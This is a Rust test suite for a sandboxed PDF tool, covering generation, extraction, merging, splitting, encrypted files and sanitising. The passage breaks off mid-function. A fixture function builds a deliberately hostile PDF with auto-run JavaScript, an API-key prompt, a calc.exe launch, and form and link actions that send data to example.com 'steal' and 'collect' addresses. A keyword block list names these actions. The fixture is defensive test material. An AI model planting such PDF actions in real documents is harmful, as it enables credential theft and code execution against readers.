//! The bundled `pdf` tool end to end, in the real sandbox: the PDFs it
//! writes are read back by poppler (`pdftotext`, `pdfinfo`, `pdffonts`,
//! `pdfimages`), an independent engine; real files no one here wrote (the
//! shared corpus) and crafted bad inputs read without a panic or a hang.

use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::OnceLock;
use std::time::{Duration, Instant};

use deskhand_runtime::Error;
use deskhand_runtime::tools::{CallRequest, FontFolders, Toolbox, run_call};
use deskhand_runtime::wasm::{Limits, WasmHost};
use deskhand_types::{Grant, ToolError};
use serde_json::{Value, json};

use crate::common::{Fixture, call_tool, corpus, files_with, output_names, read_or_named_error, tool_error, toolbox};

/// The system's font folders; the tests fail, saying how to fix it, without them.
fn fonts() -> FontFolders {
    let found = FontFolders::discover();
    assert!(
        found.latin.is_some() && found.cjk.is_some(),
        "the pdf tests need fonts-dejavu-core and fonts-droid-fallback; run scripts/setup (found {found:?})"
    );
    found
}

/// A toolbox whose pdf tool sees the fonts passed in (not discovered by the library).
fn pdf_toolbox() -> &'static Toolbox {
    static TOOLBOX: OnceLock<Toolbox> = OnceLock::new();
    TOOLBOX.get_or_init(|| {
        let cache = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("wasm-cache");
        Toolbox::with_fonts(WasmHost::new(Some(cache)).expect("engine"), fonts())
    })
}

fn pdf(fx: &Fixture, op: &str, args: Value, grants: &[Grant]) -> Result<Value, Error> {
    call_tool(pdf_toolbox(), &fx.ws, "pdf", op, args, grants)
}

/// Runs a poppler tool and returns its stdout; fails saying how to install poppler.
fn poppler(tool: &str, args: &[&str]) -> String {
    let out = Command::new(tool)
        .args(args)
        .output()
        .unwrap_or_else(|e| panic!("{tool} could not start ({e}); run scripts/setup to install poppler-utils"));
    assert!(
        out.status.success(),
        "{tool} {args:?} failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).into_owned()
}

fn path_str(p: &Path) -> &str {
    p.to_str().unwrap()
}

/// `pdfinfo`'s value for `key`.
fn pdfinfo(file: &Path, key: &str) -> String {
    poppler("pdfinfo", &[path_str(file)])
        .lines()
        .find_map(|l| l.strip_prefix(&format!("{key}:")).map(|v| v.trim().to_owned()))
        .unwrap_or_default()
}

const NON_ASCII: &str = "Café Straße 100 ₫ 中文";

/// A PNG and a JPEG made by poppler from a page of the corpus, in the inbox.
fn images(fx: &Fixture, dir: &Path) -> (PathBuf, PathBuf) {
    let src = dir.join("crazyones.pdf");
    let png = fx.inbox.join("page");
    poppler(
        "pdftoppm",
        &["-r", "20", "-png", "-singlefile", path_str(&src), path_str(&png)],
    );
    let jpg = fx.inbox.join("photo");
    poppler(
        "pdftoppm",
        &["-r", "15", "-jpeg", "-singlefile", path_str(&src), path_str(&jpg)],
    );
    (fx.inbox.join("page.png"), fx.inbox.join("photo.jpg"))
}

fn every_block_report(png: &Path, jpg: &Path) -> Value {
    let rows: Vec<Value> = (1..=70)
        .map(|i| {
            json!([
                format!("Item {i}"),
                if i % 2 == 0 { "Food" } else { "Travel" },
                i as f64 * 1.5
            ])
        })
        .collect();
    json!({
        "path": "output/report.pdf",
        "title": "Quarterly report",
        "author": "Ana Müller",
        "subject": "Expenses",
        "blocks": [
            {"type": "heading", "text": "Summary", "level": 1},
            {"type": "paragraph", "text": NON_ASCII},
            {"type": "paragraph", "text": "A long paragraph that must wrap across several lines of the page because it is far wider than the text column, with words that keep going and going until the layout has to break them onto the next line."},
            {"type": "heading", "text": "Lists", "level": 2},
            {"type": "list", "items": ["apples", "pears"]},
            {"type": "list", "items": ["first step", "second step"], "numbered": true},
            {"type": "heading", "text": "Chart", "level": 3},
            {"type": "chart", "title": "Totals by category", "labels": ["Food", "Travel", "Office"], "values": [120.5, 80, -15]},
            {"type": "image", "path": png, "caption": "A PNG image", "width_mm": 60},
            {"type": "image", "path": jpg, "caption": "A JPEG image"},
            {"type": "table", "header": ["Item", "Category", "Amount"], "rows": rows, "caption": "Every item"},
            {"type": "page_break"},
            {"type": "paragraph", "text": "The last page."}
        ]
    })
}

#[test]
fn report_with_every_block_reads_back_with_poppler() {
    let Some(dir) = corpus("pdf") else {
        eprintln!("skipped: no corpus at ../shared/corpus/pdf beside the repository");
        return;
    };
    let fx = Fixture::new();
    let (png, jpg) = images(&fx, &dir);
    let out = pdf(
        &fx,
        "report",
        every_block_report(&png, &jpg),
        &[Grant::read_only("projects/inbox")],
    )
    .unwrap();
    let file = fx.ws.output_dir().join("report.pdf");
    assert_eq!(out["path"], json!(path_str(&file.canonicalize().unwrap())), "{out}");
    let pages: usize = pdfinfo(&file, "Pages").parse().unwrap();
    assert!(pages >= 3, "the 70-row table spills onto more pages: {pages}");
    assert_eq!(out["pages"], json!(pages));
    assert_eq!(pdfinfo(&file, "Title"), "Quarterly report");
    assert_eq!(pdfinfo(&file, "Author"), "Ana Müller");

    let text = poppler("pdftotext", &["-layout", path_str(&file), "-"]);
    assert!(
        text.contains(NON_ASCII),
        "pdftotext reads the non-ASCII text back:\n{text}"
    );
    for needle in [
        "Quarterly report",
        "Summary",
        "apples",
        "1. first step",
        "Totals by category",
        "120.50",
        "Office",
        "A JPEG image",
        "Item 70",
        "The last page.",
        &format!("Page {pages} of {pages}"),
    ] {
        assert!(text.contains(needle), "missing {needle:?} in:\n{text}");
    }
    // The table's header is repeated on the page it continues onto.
    let per_page: Vec<&str> = text.split('\u{c}').collect();
    let with_header = per_page
        .iter()
        .filter(|p| p.contains("Item") && p.contains("Category") && p.contains("Amount"))
        .count();
    assert!(with_header >= 2, "the header repeats after a page break:\n{text}");

    // Fonts are embedded subsets; the CJK fallback is there for 中文.
    let fonts = poppler("pdffonts", &[path_str(&file)]);
    let rows: Vec<&str> = fonts.lines().skip(2).collect();
    assert!(rows.len() >= 2, "{fonts}");
    for row in &rows {
        let cols: Vec<&str> = row.split_whitespace().collect();
        assert!(
            cols.contains(&"CID") && cols.iter().filter(|c| **c == "yes").count() == 3,
            "every font is an embedded, subset CID font with a ToUnicode map: {row}\n{fonts}"
        );
    }
    assert!(
        fonts.contains("DejaVuSans") && fonts.contains("DroidSansFallback"),
        "{fonts}"
    );
    let images = poppler("pdfimages", &["-list", path_str(&file)]);
    assert!(images.contains("jpeg") && images.contains("image"), "{images}");

    // The tool's own text reads it back too, lines apart.
    let text = pdf(&fx, "text", json!({"path": "output/report.pdf", "pages": "1"}), &[]).unwrap();
    let page1 = text["pages"][0]["text"].as_str().unwrap();
    assert!(page1.lines().any(|l| l == NON_ASCII), "{page1}");
    assert!(page1.lines().any(|l| l == "Summary"), "{page1}");
    let info = pdf(&fx, "info", json!({"path": "output/report.pdf"}), &[]).unwrap();
    assert_eq!(info["pages"], json!(pages));
    assert_eq!(info["title"], json!("Quarterly report"));
    assert_eq!(info["encrypted"], json!(false));
    assert_eq!(info["page_sizes"][0], json!([595.28, 841.89]));

    // Never over an existing file; "unique" picks a free name.
    let err = tool_error(pdf(
        &fx,
        "report",
        json!({"path": "output/report.pdf", "blocks": []}),
        &[],
    ));
    assert!(matches!(err, ToolError::AlreadyExists { .. }), "{err}");
    let out = pdf(
        &fx,
        "report",
        json!({"path": "output/report.pdf", "unique": true, "blocks": []}),
        &[],
    )
    .unwrap();
    assert!(out["path"].as_str().unwrap().ends_with("report-1.pdf"), "{out}");
}

#[test]
fn report_errors_name_the_problem() {
    let fx = Fixture::new();
    // A character no installed font has.
    let err = tool_error(pdf(
        &fx,
        "report",
        json!({"path": "output/x.pdf", "blocks": [{"type": "paragraph", "text": "ok \u{10FFFD}"}]}),
        &[],
    ));
    let msg = err.to_string();
    assert!(msg.contains("U+10FFFD") && msg.contains("install"), "{msg}");
    // An image that is not an image, and one that is not there.
    std::fs::write(fx.inbox.join("fake.png"), "not a png").unwrap();
    let err = tool_error(pdf(
        &fx,
        "report",
        json!({"path": "output/x.pdf", "blocks": [{"type": "image", "path": fx.inbox.join("fake.png")}]}),
        &[Grant::read_only("projects/inbox")],
    ));
    assert!(
        err.to_string().contains("fake.png") && err.to_string().contains("PNG or JPEG"),
        "{err}"
    );
    let err = tool_error(pdf(
        &fx,
        "report",
        json!({"path": "output/x.pdf", "blocks": [{"type": "image", "path": fx.inbox.join("gone.png")}]}),
        &[Grant::read_only("projects/inbox")],
    ));
    assert!(err.to_string().contains("gone.png"), "{err}");
    // Only under output/: a read-write grant is read-only inside the sandbox.
    let err = pdf(
        &fx,
        "report",
        json!({"path": "projects/inbox/x.pdf", "blocks": []}),
        &[Grant::read_write("projects/inbox")],
    )
    .unwrap_err();
    assert!(err.to_string().contains("x.pdf"), "{err}");
    let err = pdf(&fx, "report", json!({"path": "../x.pdf", "blocks": []}), &[]).unwrap_err();
    assert!(err.to_string().contains("x.pdf"), "{err}");
    assert_eq!(output_names(&fx), Vec::<String>::new(), "nothing was written");

    // Without fonts the tool says what to install; reading still works.
    let cache = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("wasm-cache");
    let bare = Toolbox::with_fonts(WasmHost::new(Some(cache)).unwrap(), FontFolders::default());
    let err = tool_error(call_tool(
        &bare,
        &fx.ws,
        "pdf",
        "report",
        json!({"path": "output/x.pdf", "blocks": []}),
        &[],
    ));
    assert!(err.to_string().contains("fonts-dejavu-core"), "{err}");
    // And the fonts are the pdf tool's alone: fs cannot list them.
    let listed = run_call(
        &fx.ws,
        toolbox(),
        &CallRequest {
            tool: "fs",
            operation: "list",
            args: json!({"path": "/fonts/latin"}),
            grants: &[],
            limits: Limits::default(),
        },
        None,
    );
    assert!(listed.is_err(), "fs must not see the pdf tool's fonts");
}

#[test]
fn text_info_merge_and_split_agree_with_poppler() {
    let Some(dir) = corpus("pdf") else {
        eprintln!("skipped: no corpus at ../shared/corpus/pdf beside the repository");
        return;
    };
    let fx = Fixture::new();
    let grants = [Grant::read_only(dir.clone())];
    let crazy = dir.join("crazyones.pdf");
    let two = dir.join("two-different-pages.pdf");

    // Lines kept apart, as poppler reads them.
    let out = pdf(&fx, "text", json!({"path": crazy}), &grants).unwrap();
    let ours: Vec<&str> = out["pages"][0]["text"].as_str().unwrap().lines().collect();
    let theirs = poppler("pdftotext", &[path_str(&crazy), "-"]);
    let theirs: Vec<&str> = theirs.lines().map(str::trim).filter(|l| !l.is_empty()).collect();
    assert_eq!(ours.first(), Some(&"The Crazy Ones"), "{ours:?}");
    let same = ours.iter().filter(|l| theirs.contains(l)).count();
    assert!(
        same * 10 >= ours.len() * 8,
        "most lines match pdftotext:\nours {ours:#?}\ntheirs {theirs:#?}"
    );

    // The size cap cuts, and says so.
    let out = pdf(&fx, "text", json!({"path": crazy, "max_chars": 40}), &grants).unwrap();
    assert_eq!(out["truncated"], json!(true));
    assert_eq!(out["pages"][0]["text"].as_str().unwrap().chars().count(), 40);
    assert!(out["notes"].to_string().contains("max_chars"), "{out}");

    let info = pdf(&fx, "info", json!({"path": two}), &grants).unwrap();
    assert_eq!(info["pages"], json!(2));
    assert_eq!(info["page_sizes"].as_array().unwrap().len(), 2);

    // merge: 1 + 2 pages.
    let out = pdf(
        &fx,
        "merge",
        json!({"inputs": [crazy, two], "path": "output/merged.pdf"}),
        &grants,
    )
    .unwrap();
    assert_eq!(out["pages"], json!(3), "{out}");
    let merged = fx.ws.output_dir().join("merged.pdf");
    assert_eq!(pdfinfo(&merged, "Pages"), "3");
    let text = poppler("pdftotext", &[path_str(&merged), "-"]);
    assert!(text.contains("The Crazy Ones"), "{text}");
    let err = tool_error(pdf(
        &fx,
        "merge",
        json!({"inputs": [crazy], "path": "output/merged.pdf"}),
        &grants,
    ));
    assert!(matches!(err, ToolError::AlreadyExists { .. }), "{err}");

    // split: ranges, then each page.
    let out = pdf(
        &fx,
        "split",
        json!({"input": "output/merged.pdf", "ranges": ["1-2", "3"], "path": "output/part.pdf"}),
        &[],
    )
    .unwrap();
    assert_eq!(out["files"].as_array().unwrap().len(), 2, "{out}");
    assert_eq!(pdfinfo(&fx.ws.output_dir().join("part-p1-2.pdf"), "Pages"), "2");
    assert_eq!(pdfinfo(&fx.ws.output_dir().join("part-p3.pdf"), "Pages"), "1");
    let first = poppler("pdftotext", &[path_str(&fx.ws.output_dir().join("part-p1-2.pdf")), "-"]);
    assert!(first.contains("The Crazy Ones"), "{first}");
    let out = pdf(
        &fx,
        "split",
        json!({"input": "output/merged.pdf", "ranges": "each", "path": "output/page.pdf"}),
        &[],
    )
    .unwrap();
    assert_eq!(out["files"].as_array().unwrap().len(), 3, "{out}");
    // Splitting again would overwrite: refused, and nothing new appears.
    let before = output_names(&fx);
    let err = tool_error(pdf(
        &fx,
        "split",
        json!({"input": "output/merged.pdf", "ranges": "each", "path": "output/page.pdf"}),
        &[],
    ));
    assert!(matches!(err, ToolError::AlreadyExists { .. }), "{err}");
    assert_eq!(output_names(&fx), before);
    // A range past the end names the page count.
    let err = tool_error(pdf(
        &fx,
        "split",
        json!({"input": "output/merged.pdf", "ranges": ["2-9"], "path": "output/bad.pdf"}),
        &[],
    ));
    assert!(
        err.to_string().contains("3 page(s)") && err.to_string().contains("page 9"),
        "{err}"
    );
}

#[test]
fn bad_pdfs_name_the_file_and_the_problem() {
    let Some(dir) = corpus("pdf") else {
        eprintln!("skipped: no corpus at ../shared/corpus/pdf beside the repository");
        return;
    };
    let fx = Fixture::new();
    let grants = [Grant::read_only("projects/inbox")];
    let good = std::fs::read(dir.join("crazyones.pdf")).unwrap();
    std::fs::write(fx.inbox.join("truncated.pdf"), &good[..good.len() / 3]).unwrap();
    std::fs::write(
        fx.inbox.join("garbage.pdf"),
        b"%PDF-1.4\n1 0 obj << /Type /Catalog >> garbage\n",
    )
    .unwrap();
    std::fs::write(
        fx.inbox.join("letter.pdf"),
        "Dear Ana, this is a text file named .pdf\n",
    )
    .unwrap();
    // A sparse file over the 256 MiB cap: refused from its size, never read.
    let huge = std::fs::File::create(fx.inbox.join("huge.pdf")).unwrap();
    huge.set_len(300 * 1024 * 1024).unwrap();
    drop(huge);
    std::fs::copy(dir.join("r4-user-password.pdf"), fx.inbox.join("locked.pdf")).unwrap();

    let expect = |name: &str, words: &[&str]| {
        let started = Instant::now();
        let err = tool_error(pdf(&fx, "text", json!({"path": fx.inbox.join(name)}), &grants));
        assert!(
            started.elapsed() < Duration::from_secs(30),
            "{name} took {:?}",
            started.elapsed()
        );
        let msg = err.to_string();
        assert!(msg.contains(name), "{name}: the error names the file: {msg}");
        for w in words {
            assert!(msg.contains(w), "{name}: {w:?} in {msg}");
        }
        err
    };
    assert!(matches!(
        expect("truncated.pdf", &["damaged or truncated"]),
        ToolError::BadContent { .. }
    ));
    assert!(matches!(
        expect("garbage.pdf", &["damaged"]),
        ToolError::BadContent { .. }
    ));
    assert!(matches!(
        expect("letter.pdf", &["not a PDF"]),
        ToolError::BadContent { .. }
    ));
    assert!(matches!(
        expect("huge.pdf", &["300.0 MiB", "256 MiB"]),
        ToolError::TooLarge { .. }
    ));
    assert!(matches!(
        expect("locked.pdf", &["encrypted", "\"password\""]),
        ToolError::BadContent { .. }
    ));
    let err = tool_error(pdf(
        &fx,
        "text",
        json!({"path": fx.inbox.join("locked.pdf"), "password": "wrong"}),
        &grants,
    ));
    assert!(err.to_string().contains("does not open it"), "{err}");
    let out = pdf(
        &fx,
        "text",
        json!({"path": fx.inbox.join("locked.pdf"), "password": "asdfzxcv"}),
        &grants,
    )
    .unwrap();
    assert!(
        out["pages"][0]["text"]
            .as_str()
            .unwrap()
            .contains("pdf encryption test"),
        "{out}"
    );
    // merge takes passwords by input path, and says so.
    let err = tool_error(pdf(
        &fx,
        "merge",
        json!({"inputs": [fx.inbox.join("locked.pdf")], "path": "output/m.pdf"}),
        &grants,
    ));
    assert!(err.to_string().contains("\"passwords\""), "{err}");
    // A merge with one bad input writes nothing.
    let err = tool_error(pdf(
        &fx,
        "merge",
        json!({"inputs": [fx.inbox.join("locked.pdf"), fx.inbox.join("truncated.pdf")], "passwords": {fx.inbox.join("locked.pdf").to_str().unwrap(): "asdfzxcv"}, "path": "output/m.pdf"}),
        &grants,
    ));
    assert!(err.to_string().contains("truncated.pdf"), "{err}");
    assert_eq!(output_names(&fx), Vec::<String>::new());
}

#[test]
fn every_corpus_pdf_reads_or_names_its_problem() {
    let Some(dir) = corpus("pdf") else {
        eprintln!("skipped: no corpus at ../shared/corpus/pdf beside the repository");
        return;
    };
    let fx = Fixture::new();
    let grants = [Grant::read_only(dir.clone())];
    let files = files_with(&dir, &["pdf"]);
    assert!(files.len() >= 60, "the corpus holds {} PDFs", files.len());
    let (mut read, mut refused) = (0, Vec::new());
    let started = Instant::now();
    for file in &files {
        let name = file.file_name().unwrap().to_string_lossy().into_owned();
        match read_or_named_error(&name, pdf(&fx, "text", json!({"path": file}), &grants)) {
            Ok(out) => {
                assert!(out["page_count"].as_u64().unwrap() >= 1, "{name}: {out}");
                read += 1;
            }
            Err(msg) => refused.push(format!("{name}: {msg}")),
        }
    }
    eprintln!(
        "corpus: {read} of {} PDFs read, {} refused, in {:?}:\n  {}",
        files.len(),
        refused.len(),
        started.elapsed(),
        refused.join("\n  ")
    );
    // Encrypted files without their password say so, and open with it.
    for name in [
        "r2-user-password.pdf",
        "r3-user-password.pdf",
        "r4-user-password.pdf",
        "r4-aes-user-password.pdf",
        "r6-both-passwords.pdf",
        "libreoffice-writer-password.pdf",
    ] {
        let line = refused.iter().find(|l| l.starts_with(name));
        assert!(
            line.is_some_and(|l| l.contains("encrypted") && l.contains("password")),
            "{name}: {line:?}"
        );
    }
    for (name, password, expected) in [
        ("r2-user-password.pdf", "asdfzxcv", "pdf encryption test"),
        ("r3-user-password.pdf", "asdfzxcv", "pdf encryption test"),
        ("r4-user-password.pdf", "asdfzxcv", "pdf encryption test"),
        ("r4-aes-user-password.pdf", "asdfzxcv", "pdf encryption test"),
        ("r5-user-password.pdf", "asdfzxcv", "pdf encryption test"),
        ("r6-user-password.pdf", "asdfzxcv", "pdf encryption test"),
        ("r2-owner-password.pdf", "asdfzxcv", "pdf encryption test"),
        ("r4-owner-password.pdf", "asdfzxcv", "pdf encryption test"),
        ("r5-owner-password.pdf", "asdfzxcv", "pdf encryption test"),
        ("r6-owner-password.pdf", "asdfzxcv", "pdf encryption test"),
        ("r6-both-passwords.pdf", "foo", "pdf encryption test"),
        ("r6-both-passwords.pdf", "bar", "pdf encryption test"),
        ("libreoffice-writer-password.pdf", "openpassword", "Lorem ipsum"),
    ] {
        let out = pdf(
            &fx,
            "text",
            json!({"path": dir.join(name), "password": password}),
            &grants,
        )
        .unwrap_or_else(|e| panic!("{name} with its password: {e}"));
        let text = out["pages"][0]["text"].as_str().unwrap();
        assert!(text.contains(expected), "{name}: {text}");
    }
    assert!(
        read * 10 >= files.len() * 8,
        "most of the corpus reads: {read} of {}",
        files.len()
    );
    // Content, not just no error.
    for (name, expected) in [
        ("hello-world.pdf", "Hello World"),
        ("multilang.pdf", "Привет"),
        ("issue-914-xmp-data.pdf", "华联绿豆"),
        ("libreoffice-form.pdf", "Example for a Form"),
        ("GeoBase_NHNC1_Data_Model_UML_EN.pdf", "National Hydro Network"),
    ] {
        let out = pdf(&fx, "text", json!({"path": dir.join(name)}), &grants).unwrap();
        assert!(out["pages"].to_string().contains(expected), "{name}: {out:.2000}");
    }
}

/// A PDF written by hand that scripts its viewer every way the tests know:
/// JavaScript on open (the catalog's `/OpenAction`), in the document's name
/// tree (a prompt for a key), on document and page events (`/AA`), a link
/// that launches a program, one to a web address, a form field that submits
/// itself and formats with a script, XFA, an embedded file that opens as an
/// attachment, and an outline entry whose `GoTo` chains on to JavaScript.
fn hostile_pdf(text: &str) -> Vec<u8> {
    let content = format!("BT /F1 24 Tf 72 700 Td ({text}) Tj ET");
    let objects = [
        "<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Names << /JavaScript 7 0 R /EmbeddedFiles 14 0 R >> \
         /AA << /WC 8 0 R >> /AcroForm << /Fields [11 0 R] /XFA 12 0 R >> /Outlines 15 0 R >>"
            .to_owned(),
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_owned(),
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 4 0 R >> >> \
         /Contents 6 0 R /AA << /O 8 0 R /C 8 0 R >> /Annots [9 0 R 10 0 R 11 0 R 13 0 R] >>"
            .to_owned(),
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>".to_owned(),
        "<< /Type /Action /S /JavaScript /JS (app.alert\\('open action ran'\\);) >>".to_owned(),
        format!("<< /Length {} >>\nstream\n{content}\nendstream", content.len()),
        "<< /Names [(boot) << /S /JavaScript /JS (app.response\\('Enter your API key'\\);) >>] >>".to_owned(),
        "<< /S /JavaScript /JS (app.alert\\('event ran'\\);) >>".to_owned(),
        "<< /Type /Annot /Subtype /Link /Rect [72 600 300 640] /A << /S /Launch /F (calc.exe) >> >>".to_owned(),
        "<< /Type /Annot /Subtype /Link /Rect [72 550 300 590] /A << /S /URI /URI (https://example.com/steal) >> >>"
            .to_owned(),
        "<< /Type /Annot /Subtype /Widget /FT /Tx /T (key) /Rect [72 500 300 540] \
         /A << /S /SubmitForm /F (https://example.com/collect) >> /AA << /F << /S /JavaScript /JS (1;) >> >> >>"
            .to_owned(),
        "<< /Length 9 >>\nstream\n<xdp:xdp>\nendstream".to_owned(),
        "<< /Type /Annot /Subtype /FileAttachment /Rect [72 450 90 470] /FS << /Type /Filespec /F (a.exe) >> >>"
            .to_owned(),
        "<< /Names [(a.exe) << /Type /Filespec /F (a.exe) >>] >>".to_owned(),
        "<< /Type /Outlines /First 16 0 R /Last 16 0 R /Count 1 >>".to_owned(),
        "<< /Title (Start) /Parent 15 0 R /A << /S /GoTo /D [3 0 R /Fit] /Next << /S /ImportData /F (x.fdf) >> >> >>"
            .to_owned(),
    ];
    let mut out = b"%PDF-1.7\n".to_vec();
    let mut offsets = Vec::new();
    for (i, body) in objects.iter().enumerate() {
        offsets.push(out.len());
        out.extend_from_slice(format!("{} 0 obj\n{body}\nendobj\n", i + 1).as_bytes());
    }
    let xref = out.len();
    out.extend_from_slice(format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1).as_bytes());
    for o in offsets {
        out.extend_from_slice(format!("{o:010} 00000 n \n").as_bytes());
    }
    out.extend_from_slice(
        format!(
            "trailer\n<< /Size {} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n",
            objects.len() + 1
        )
        .as_bytes(),
    );
    out
}

/// What the web UI does before framing a PDF: the host-only `sanitize`
/// operation in a sandbox holding only its own folder with a copy of the file.
fn sanitize(input: &Path) -> (Result<Value, deskhand_runtime::wasm::CallError>, tempfile::TempDir) {
    let work = tempfile::tempdir().unwrap();
    std::fs::copy(input, work.path().join("in.pdf")).unwrap();
    let sandbox = deskhand_runtime::wasm::Sandbox {
        mounts: Vec::new(),
        limits: Limits::default(),
        scratch: Some(work.path().to_path_buf()),
        network: None,
    };
    let scratch = deskhand_runtime::wasm::SCRATCH_GUEST;
    let args = json!({"path": format!("{scratch}/in.pdf"), "out": format!("{scratch}/out.pdf")});
    let pdf = pdf_toolbox().get(deskhand_runtime::tools::BundledTool::Pdf).unwrap();
    let result = pdf.call(&sandbox, "sanitize", &args.to_string(), None).result;
    (result.map(|o| o.json), work)
}

/// Names a scripting viewer acts on; none may be left in an inert copy.
const SCRIPTING: [&[u8]; 11] = [
    b"/JavaScript",
    b"/JS",
    b"/OpenAction",
    b"/AA",
    b"/Launch",
    b"/SubmitForm",
    b"/ImportData",
    b"/URI",
    b"/XFA",
    b"/EmbeddedFiles",
    b"/FileAttachment",
];

/// Whether the name `name` (`/AA`, not the start of `/AAAAAB+Font`) appears.
fn has_name(bytes: &[u8], name: &[u8]) -> bool {
    bytes.windows(name.len() + 1).any(|w| {
        w.starts_with(name) && matches!(w[name.len()], b' ' | b'\n' | b'\r' | b'\t' | b'<' | b'/' | b'[' | b'(')
    })
}

#[test]
fn a_pdf_made_inert_has_no_script_or_action_and_reads_back_the_same() {
    let dir = tempfile::tempdir().unwrap();
    let hostile = dir.path().join("hostile.pdf");
    std::fs::write(&hostile, hostile_pdf("Quarterly totals: 1,234.50 EUR")).unwrap();
    assert_eq!(
        pdfinfo(&hostile, "JavaScript"),
        "yes",
        "the test file must script its viewer"
    );

    let (result, work) = sanitize(&hostile);
    let out = result.unwrap();
    assert!(out["removed"]["actions"].as_u64().unwrap() >= 5, "{out}");
    let inert = work.path().join("out.pdf");
    let bytes = std::fs::read(&inert).unwrap();
    for name in SCRIPTING {
        assert!(
            !has_name(&bytes, name),
            "{} is left in the inert copy:\n{}",
            String::from_utf8_lossy(name),
            String::from_utf8_lossy(&bytes)
        );
    }
    assert_eq!(pdfinfo(&inert, "JavaScript"), "no");
    assert_eq!(crate::common::pdftotext(&inert), crate::common::pdftotext(&hostile));
    assert!(crate::common::pdftotext(&inert).contains("Quarterly totals: 1,234.50 EUR"));
    // The outline entry still goes to its page.
    assert!(has_name(&bytes, b"/GoTo"), "{}", String::from_utf8_lossy(&bytes));

    // Only the host runs it, and only into the call's own folder.
    let fx = Fixture::new();
    std::fs::copy(&hostile, fx.inbox.join("hostile.pdf")).unwrap();
    let refused = pdf(
        &fx,
        "sanitize",
        json!({"path": "projects/inbox/hostile.pdf", "out": "output/inert.pdf"}),
        &[Grant::read_only("projects/inbox")],
    )
    .unwrap_err();
    assert!(matches!(refused, Error::UnknownOperation { .. }), "{refused}");
    let work = tempfile::tempdir().unwrap();
    let sandbox = output_writable_sandbox(&fx, work.path());
    let args = json!({"path": fx.inbox.join("hostile.pdf"), "out": fx.ws.output_dir().join("inert.pdf")});
    let pdf_tool = pdf_toolbox().get(deskhand_runtime::tools::BundledTool::Pdf).unwrap();
    let err = pdf_tool
        .call(&sandbox, "sanitize", &args.to_string(), None)
        .result
        .unwrap_err();
    assert!(err.to_string().contains("must lie in"), "{err}");
    assert!(output_names(&fx).is_empty());
}

/// A sandbox that could write output/ and read the inbox, with a scratch folder.
fn output_writable_sandbox(fx: &Fixture, scratch: &Path) -> deskhand_runtime::wasm::Sandbox {
    let mut sandbox = fx.sandbox(&[Grant::read_only("projects/inbox")]);
    sandbox.scratch = Some(scratch.to_path_buf());
    sandbox
}

#[test]
fn every_corpus_pdf_is_made_inert_with_the_same_text_or_refused_in_words() {
    let Some(dir) = corpus("pdf") else {
        eprintln!("skipped: no corpus at ../shared/corpus/pdf beside the repository");
        return;
    };
    // Encrypted with an empty user password: decrypted, saved without encryption.
    for name in [
        "r2-owner-password.pdf",
        "r3-empty-password.pdf",
        "r6-owner-password.pdf",
    ] {
        let (result, work) = sanitize(&dir.join(name));
        result.unwrap_or_else(|e| panic!("{name}: {e}"));
        let inert = work.path().join("out.pdf");
        assert_eq!(pdfinfo(&inert, "Encrypted"), "no", "{name}");
        assert_eq!(
            crate::common::pdftotext(&inert),
            crate::common::pdftotext(&dir.join(name)),
            "{name}"
        );
    }
    // A user password: refused, saying what to do.
    let (result, _work) = sanitize(&dir.join("r4-user-password.pdf"));
    let err = result.unwrap_err().to_string();
    assert!(
        err.contains("protected by a password") && err.contains("download it"),
        "{err}"
    );

    let (mut inert, mut refused) = (0, Vec::new());
    for file in files_with(&dir, &["pdf"]) {
        let name = file.file_name().unwrap().to_string_lossy().into_owned();
        let (result, work) = sanitize(&file);
        match result {
            Ok(_) => {
                let copy = work.path().join("out.pdf");
                let bytes = std::fs::read(&copy).unwrap();
                for scripting in [b"/JavaScript".as_slice(), b"/OpenAction", b"/AA", b"/Launch"] {
                    assert!(
                        !has_name(&bytes, scripting),
                        "{name}: {}",
                        String::from_utf8_lossy(scripting)
                    );
                }
                let original = Command::new("pdftotext").arg(&file).arg("-").output().unwrap();
                if original.status.success() {
                    assert_eq!(
                        crate::common::pdftotext(&copy),
                        String::from_utf8_lossy(&original.stdout),
                        "{name}: the inert copy reads differently"
                    );
                }
                inert += 1;
            }
            Err(e) => {
                let msg = e.to_string();
                assert!(msg.contains("in.pdf: "), "{name}: not a message about the file: {msg}");
                refused.push(format!("{name}: {msg}"));
            }
        }
    }
    eprintln!(
        "corpus: {inert} made inert, {} refused:\n  {}",
        refused.len(),
        refused.join("\n  ")
    );
    assert!(inert >= 50, "only {inert} corpus PDFs were made inert");
}

/// The words poppler reads from `file` without a password or with `password`
/// (as the user's or the owner's), or `None` when it will not open the file.
/// Ligatures are spelled out: poppler splits some and keeps others.
fn poppler_words(file: &Path, password: Option<&str>) -> Option<Vec<String>> {
    let attempts: Vec<Vec<&str>> = match password {
        None => vec![vec![]],
        Some(p) => vec![vec!["-upw", p], vec!["-opw", p]],
    };
    attempts.into_iter().find_map(|flags| {
        let out = Command::new("pdftotext")
            .args(flags)
            .args([path_str(file), "-"])
            .output()
            .expect("pdftotext runs; run scripts/setup to install poppler-utils");
        out.status
            .success()
            .then(|| words(&String::from_utf8_lossy(&out.stdout)))
    })
}

fn words(text: &str) -> Vec<String> {
    let spelled = [
        ("\u{FB00}", "ff"),
        ("\u{FB01}", "fi"),
        ("\u{FB02}", "fl"),
        ("\u{FB03}", "ffi"),
        ("\u{FB04}", "ffl"),
    ]
    .iter()
    .fold(text.to_owned(), |t, (lig, letters)| t.replace(lig, letters));
    spelled.split_whitespace().map(str::to_owned).collect()
}

/// The words of every page the pdf tool's `text` returned.
fn tool_words(out: &Value) -> Vec<String> {
    let pages = out["pages"].as_array().unwrap();
    words(
        &pages
            .iter()
            .map(|p| p["text"].as_str().unwrap())
            .collect::<Vec<_>>()
            .join("\n"),
    )
}

#[test]
fn encrypted_corpus_pdfs_open_when_poppler_opens_them_with_its_words() {
    let Some(dir) = corpus("pdf") else {
        eprintln!("skipped: no corpus at ../shared/corpus/pdf beside the repository");
        return;
    };
    let fx = Fixture::new();
